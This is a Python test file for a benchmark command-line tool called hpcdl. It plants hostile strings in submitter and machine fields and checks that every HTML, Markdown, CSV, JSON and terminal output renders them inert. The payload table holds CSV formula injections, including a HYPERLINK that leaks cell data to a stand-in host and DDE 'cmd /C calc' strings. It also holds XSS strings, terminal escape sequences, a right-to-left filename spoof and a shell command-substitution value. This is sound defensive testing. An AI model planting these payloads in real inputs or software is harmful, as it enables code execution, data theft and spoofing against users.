"""Strings that strangers control reach every output as data (issue 50, item 1).

A submitter writes the system description; a record names its hosts, device, environment and
notes; a results tree names its files, in any bytes. Each hostile string of ``HOSTILE`` is
planted in every such field (``plant``, ``describe``), in a system's name and in a file's name,
and every output is read back: ``hpcdl check``'s summary, ``hpcdl rank``'s Markdown, HTML, CSV
and JSON, ``hpcdl report``'s page and figures, ``hpcdl list-site``'s pages and exports, and
everything each command printed. Each output is held to its own rule (``OUTPUTS``): HTML has no
element or attribute the page did not write, a Markdown table keeps its columns and shows no
markup, no CSV cell is a formula, a terminal gets no control character, every file is UTF-8.

A new hostile string is a row of ``HOSTILE``; a new output a row of ``OUTPUTS``; a new field a
line of ``plant`` or ``describe``."""

from __future__ import annotations

import csv
import json
import os
import re
import shlex
import shutil
import subprocess
import tomllib
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hpcdl_cli import Ran, hpcdl
from test_submission import SYSTEMS, filled, suites

from hpcdl.escape import csv_cell
from hpcdl.records.loader import load_tree
from hpcdl.records.store import seal
from hpcdl.submission.describe import from_records
from hpcdl.submission.package import package

HOSTILE = {
    "formula =": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "formula +": "+1+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a carriage return": "\r=1+1",
    "script element": "<script>alert(1)</script>",
    "image with onerror": "<img src=x onerror=alert(1)>",
    "quote out of an attribute": "x' onmouseover='alert(1)' y=\"",
    "table cell break": "a | b\n| c | d",
    "Markdown link and code": "[x](javascript:alert(1)) `code` **bold** <b>",
    "terminal title and clear": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "8-bit control sequence": "\x9b31mred\x85next",
    "right-to-left override": "safe\u202egnp.exe\u2066x\u2069",
    "line separators": "one\u2028two\u2029three\x00four",
    "shell command": "n1 ; touch pwned $(id) `id` 'q",
    "math for matplotlib": "$\\frac{1}{0}$ and $\\undefinedmacro$ and one $",
    "byte that is not UTF-8": "vm-\udcff\udcfe",
}


# --- planting ------------------------------------------------------------------------------------


def plant(doc: dict[str, Any], s: str) -> dict[str, Any]:
    """A result record with ``s`` in every string a run's machine or environment controls: host
    names, the device's name, the OS, the notes of its checks and of its energy."""
    env, m = doc["environment"], doc["metrics"]
    doc["settings"]["hosts"] = [s]
    env["host"] = env["device_name"] = env["cpu_model"] = env["os"] = s
    for r in m["per_rank"]:
        r["host"] = s
    if m.get("straggler"):
        m["straggler"]["host"] = s
    for c in doc["validity"]["checks"]:
        c["detail"] = s
    for r in m.get("energy", {}).get("per_rank", []):
        for part in r.values():
            if isinstance(part, dict) and "reason" in part:
                part["reason"] = s
    return doc


def describe(data: dict[str, Any], s: str) -> dict[str, Any]:
    """A description with ``s`` in every free string (and the device's name, as the records say)."""
    data["submission"]["submitter"] = s
    for key in ("vendor", "interconnect", "storage"):
        data["system"][key] = s
    data["system"]["processor"]["model"] = s
    for key in ("os", "mpi", "horovod", "driver"):
        data["software"][key] = s
    return data


def hostile_tree(folder: Path, s: str) -> Path:
    """A complete class S of the reference results, every record planted and sealed again."""
    results = suites(SYSTEMS["epyc-a"], folder)
    for path in results.rglob("*.json"):
        doc = json.loads(path.read_text())
        if doc.get("schema") == "hpcdl.result":
            path.write_text(json.dumps(seal(plant(doc, s))))
    return results


def file_named(folder: Path, s: str) -> Path:
    """A file whose name holds ``s`` (as bytes: a name need not be UTF-8), which rank and report
    list as unreadable by its name."""
    name = os.fsencode(s.replace("/", "-").replace("\0", "-")) + b".json"
    path = Path(os.fsdecode(os.fsencode(folder) + b"/" + name))
    path.write_bytes(b"not JSON")
    return path


# --- what each output may hold ----------------------------------------------------------------------

UNSAFE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
"""what no output holds: controls but the newline, separators of lines, bidirectional marks,
lone surrogates (a name's bytes that are not UTF-8)"""


def text_of(path: Path) -> str:
    """A file's text: UTF-8, with nothing of ``UNSAFE`` but a CSV's carriage returns."""
    text = path.read_bytes().decode("utf-8")  # strict: raises on anything that is not UTF-8
    found = UNSAFE.findall(text.replace("\r\n", "\n"))
    assert found == [], (path.name, found)
    return text


def terminal(p: Ran) -> None:
    found = UNSAFE.findall(p.stdout + p.stderr)
    assert found == [] and "Traceback" not in p.stderr, (p.args, found, p.stderr[-2000:])


class Elements(HTMLParser):
    """The elements and attributes of a page, and the schemes of its links."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name in ("href", "src"):
                self.links.append(value or "")


PAGE_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "table", "thead"}
PAGE_TAGS |= {"tbody", "tr", "th", "td", "a", "img", "figure", "figcaption", "pre", "ul", "li", "code", "br"}
PAGE_TAGS |= {"div", "span", "section", "details", "summary", "small", "em", "strong", "b"}
PAGE_ATTRIBUTES = {"charset", "lang", "href", "src", "alt", "class", "id", "width", "height", "title"}


def html_page(path: Path) -> None:
    """Only the elements and attributes hpcdl writes; links to its own files, never a script."""
    page = Elements()
    page.feed(text_of(path))
    assert page.tags <= PAGE_TAGS and page.attributes <= PAGE_ATTRIBUTES, (
        path.name,
        page.tags - PAGE_TAGS,
        page.attributes - PAGE_ATTRIBUTES,
    )
    assert [x for x in page.links if ":" in x.split("/")[0]] == [], page.links


MARKUP = set("\\`*_[]<>|~&")


def markdown_tables(path: Path) -> None:
    """Every row of every table has its header's columns; no cell holds unescaped markup."""
    columns = 0
    for line in text_of(path).splitlines():
        if not line.startswith("| "):
            columns = 0
            continue
        cells, cell, escaped = [], "", False
        for c in line[2:-2]:
            if escaped:
                cell, escaped = cell + c, False
            elif c == "\\":
                escaped = True
            elif c == "|":
                cells.append(cell)
                cell = ""
            else:
                assert c not in MARKUP, (path.name, line)
                cell += c
        cells.append(cell)
        columns = columns or len(cells)
        assert len(cells) == columns, (path.name, line)


def spreadsheet_cells(path: Path) -> None:
    """No cell starts as a formula would, but a number hpcdl wrote."""
    for row in csv.reader(text_of(path).splitlines()):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # -1.5 is a figure; '-2+3' is not, and fails here


def json_document(path: Path) -> None:
    json.loads(text_of(path))


OUTPUTS: dict[str, Callable[[Path], None]] = {
    ".html": html_page,
    ".md": markdown_tables,
    ".csv": spreadsheet_cells,
    ".json": json_document,
}


def every_output(folder: Path) -> list[str]:
    """Hold every file under ``folder`` to its rule; the kinds of file read."""
    seen = []
    for path in sorted(folder.rglob("*")):
        if path.suffix in OUTPUTS:
            OUTPUTS[path.suffix](path)
            seen.append(path.suffix)
        elif path.suffix == ".png":
            assert path.read_bytes()[:4] == b"\x89PNG", path
            seen.append(".png")
    return sorted(set(seen))


# --- the table ------------------------------------------------------------------------------------


FAST = ("formula =", "script element", "terminal title and clear", "shell command", "byte that is not UTF-8")
"""the rows of the default tier: one of each kind of output's danger"""
ROWS = [
    pytest.param(
        n, marks=() if n in FAST else pytest.mark.slow(reason="about 5 s a row; the fast tier keeps a few")
    )
    for n in HOSTILE
]


@pytest.mark.parametrize("name", ROWS)
def test_a_stranger_s_string_is_data_in_every_output(tmp_path: Path, name: str) -> None:
    s = HOSTILE[name]
    results = hostile_tree(tmp_path / "results", s)
    data = describe(filled(from_records([r.result for r in load_tree([results]).records]), "epyc-x"), s)
    description = tmp_path / "system.json"
    description.write_text(json.dumps(data))
    archive = package(results, description, tmp_path / "epyc-x.tar.gz").path
    file_named(results, s)  # after packaging: a submission holds no unreadable file

    p = hpcdl("check", str(archive))
    terminal(p)
    assert p.returncode == 0 and "verdict: PASS" in p.stdout, p.stdout[-3000:]
    p = hpcdl("list-site", str(archive), "-o", str(tmp_path / "site"))
    terminal(p)
    assert p.returncode == 0
    assert every_output(tmp_path / "site") == [".csv", ".html", ".json", ".png"]
    p = hpcdl("rank", "-o", str(tmp_path / "rank"), "--", f"{s.replace('=', '-')}={results}")  # NAME=DIR
    terminal(p)
    assert p.returncode == 0 and "1 rejected" in p.stdout, p.stdout[-3000:] + p.stderr[-3000:]
    assert every_output(tmp_path / "rank") == [".csv", ".html", ".json", ".md"]
    p = hpcdl("report", str(results), "-o", str(tmp_path / "report"))
    terminal(p)
    assert p.returncode == 0, p.stderr[-3000:]
    assert every_output(tmp_path / "report") == [".html", ".png"]
    diagnosed(s, tmp_path)
    p = hpcdl("system", "init", str(results), "-o", str(tmp_path / "init.toml"))
    terminal(p)
    assert p.returncode == 0 and tomllib.loads(text_of(tmp_path / "init.toml")), p.stderr[-3000:]


def diagnosed(s: str, tmp_path: Path) -> None:
    """hpcdl diagnose of a planted record (one whose rank 0 is 3 % slower) flags its host at a
    tight threshold and prints the sbatch line a person copies: the host is one word to the
    shell, whatever it holds; then the diagnosis's page."""
    source = next((SYSTEMS["epyc-b"] / "suite-np2").glob("*-cnn-resnet-small.json"))
    record = tmp_path / "diagnosed" / source.name
    record.parent.mkdir()
    steps = json.loads(source.read_text())["steps_file"]
    shutil.copy(source.parent / steps, record.parent / steps)
    record.write_text(json.dumps(seal(plant(json.loads(source.read_text()), s))))
    p = hpcdl("diagnose", "--record", str(record), "--threshold", "0.99", "-o", str(tmp_path / "d.json"))
    terminal(p)
    (line,) = [x for x in p.stdout.splitlines() if x.startswith("sbatch ")]
    assert len(shlex.split(line)) == 2, line
    p = hpcdl("report", str(tmp_path / "d.json"), "-o", str(tmp_path / "diagnosis"))
    terminal(p)
    assert p.returncode == 0 and every_output(tmp_path / "diagnosis") == [".html"], p.stderr[-3000:]


def test_every_field_planted_reaches_the_outputs(tmp_path: Path) -> None:
    """The planted fields do reach the outputs read above (else the table would test nothing):
    a marker planted in each is found in the site's CSV, the ranking and the report."""
    mark = "ZZMARK"
    results = hostile_tree(tmp_path / "results", mark)
    data = describe(filled(from_records([r.result for r in load_tree([results]).records]), "epyc-x"), mark)
    description = tmp_path / "system.json"
    description.write_text(json.dumps(data))
    archive = package(results, description, tmp_path / "epyc-x.tar.gz").path
    file_named(results, mark)
    assert hpcdl("list-site", str(archive), "-o", str(tmp_path / "site")).returncode == 0
    assert hpcdl("rank", str(results), "-o", str(tmp_path / "rank")).returncode == 0
    assert hpcdl("report", str(results), "-o", str(tmp_path / "report")).returncode == 0
    rows = list(csv.DictReader((tmp_path / "site" / "class-S-v1.csv").open()))
    assert rows[0]["vendor"] == rows[0]["submitter"] == rows[0]["device"] == mark
    assert (tmp_path / "site" / "systems" / "epyc-x.html").read_text().count(mark) >= 8
    assert f"{mark}.json" in (tmp_path / "rank" / "ranking.md").read_text()
    assert (tmp_path / "report" / "index.html").read_text().count(mark) >= 3


# --- a real spreadsheet --------------------------------------------------------------------------


@pytest.mark.slow(reason="starts LibreOffice (about 2 s), once per formula")
@pytest.mark.parametrize("name", [n for n in HOSTILE if n.startswith("formula")])
def test_a_list_s_csv_opens_in_a_spreadsheet_as_text(tmp_path: Path, name: str) -> None:
    """The site's CSV, written from a description whose vendor is a formula, opened by
    LibreOffice (scripts/setup.sh --test installs it): no cell is a formula; the vendor is text."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice Calc is needed: bash scripts/setup.sh --test installs it"
    s = HOSTILE[name]
    results = hostile_tree(tmp_path / "results", s)
    data = describe(filled(from_records([r.result for r in load_tree([results]).records]), "epyc-x"), s)
    description = tmp_path / "system.json"
    description.write_text(json.dumps(data))
    archive = package(results, description, tmp_path / "epyc-x.tar.gz").path
    assert hpcdl("list-site", str(archive), "-o", str(tmp_path / "site")).returncode == 0
    sheet = opened(soffice, tmp_path / "site" / "class-S-v1.csv", tmp_path / "lo")
    assert "table:formula" not in sheet
    assert f"<text:p>{xml_text(csv_cell(s))}</text:p>" in sheet  # the vendor, as text


def opened(soffice: str, csv_path: Path, profile: Path) -> str:
    """The CSV as LibreOffice reads it, saved as flat OpenDocument XML (a formula cell carries
    ``table:formula``)."""
    out = csv_path.parent
    cmd = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", "fods"]
    subprocess.run([*cmd, "--outdir", str(out), str(csv_path)], capture_output=True, timeout=120, check=True)
    return csv_path.with_suffix(".fods").read_text()


def xml_text(s: str) -> str:
    """``s`` as LibreOffice writes text in XML."""
    for c, entity in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ('"', "&quot;"), ("'", "&apos;")):
        s = s.replace(c, entity)
    return s


@pytest.mark.parametrize("name", HOSTILE)
def test_a_fitted_spec_file_keeps_a_profile_s_name_in_its_comment(name: str) -> None:
    """hpcdl fit writes the spec with the profile's name in a comment line: a newline there
    would end the comment and put a line of the stranger's in the TOML."""
    from hpcdl.cli.proxy import spec_toml
    from hpcdl.workloads.registry import spec_from_args

    spec = spec_from_args("mlp", [])
    text = spec_toml(spec, [f"fitted by hpcdl fit to p.json ({HOSTILE[name]})"])
    assert UNSAFE.findall(text) == [] and tomllib.loads(text) == spec.to_dict()
